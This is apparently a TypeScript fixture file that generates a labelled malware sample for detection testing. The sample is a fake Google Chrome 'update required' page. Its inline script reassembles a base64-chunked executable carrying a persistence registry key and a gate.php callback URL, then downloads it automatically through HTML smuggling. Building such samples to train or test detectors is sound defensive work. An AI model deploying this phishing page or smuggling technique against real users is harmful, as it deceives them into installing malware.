import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute, b64 } from '../parts/r-kit.js';
import { zip, pe, iso, lnk, jsRoute } from '../parts/e-bin.js';
const setupExe = pe({ strings: ['ChromeSetup', 'Google LLC', 'http://update-chrome-browser.com/gate.php', 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'], size: 6144 });
const chunked = (buf: Buffer, n: number) => { const s = b64(buf); const out: string[] = []; for (let i = 0; i < s.length; i += n) out.push(s.slice(i, i + n)); return out; };

export const entries: Entry[] = [
{
  id: 'r-smuggle-exe-chunks-fake-chrome-update',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://update-chrome-browser.com/chrome/update/',
  body: doc({ title: 'Google Chrome – Update required', css: `body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#fff;color:#202124}.c{max-width:640px;margin:80px auto;text-align:center}
.lg{width:80px;height:80px;border-radius:50%;margin:0 auto;background:conic-gradient(#ea4335 0 120deg,#fbbc05 120deg 240deg,#34a853 240deg);position:relative}.lg:after{content:"";position:absolute;inset:24px;background:#4285f4;border:5px solid #fff;border-radius:50%}
button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:12px 28px;font-size:15px}` },
`<div class="c"><div class="lg"></div><h1>A critical update is required</h1><p>Your version of Chrome (118.0.5993.90) is out of date and can no longer display this page securely. Install the latest version to continue.</p>
<button id="u">Update Chrome</button><p style="font-size:12px;color:#5f6368;margin-top:30px">Google LLC · 1600 Amphitheatre Parkway · Privacy · Terms</p></div>
<script>
var parts=${JSON.stringify(chunked(setupExe, 512))};
function dl(){var bin=atob(parts.join('')),arr=new Uint8Array(bin.length);for(var i=0;i<bin.length;i++)arr[i]=bin.charCodeAt(i);
var f=new File([arr],'ChromeSetup_x64.exe',{type:'application/x-msdownload'});var u=URL.createObjectURL(f);var l=document.createElement('a');l.href=u;l.download=f.name;l.style.display='none';document.body.appendChild(l);l.click();}
document.getElementById('u').onclick=dl;setTimeout(dl,3000);
</script>`),
},
];
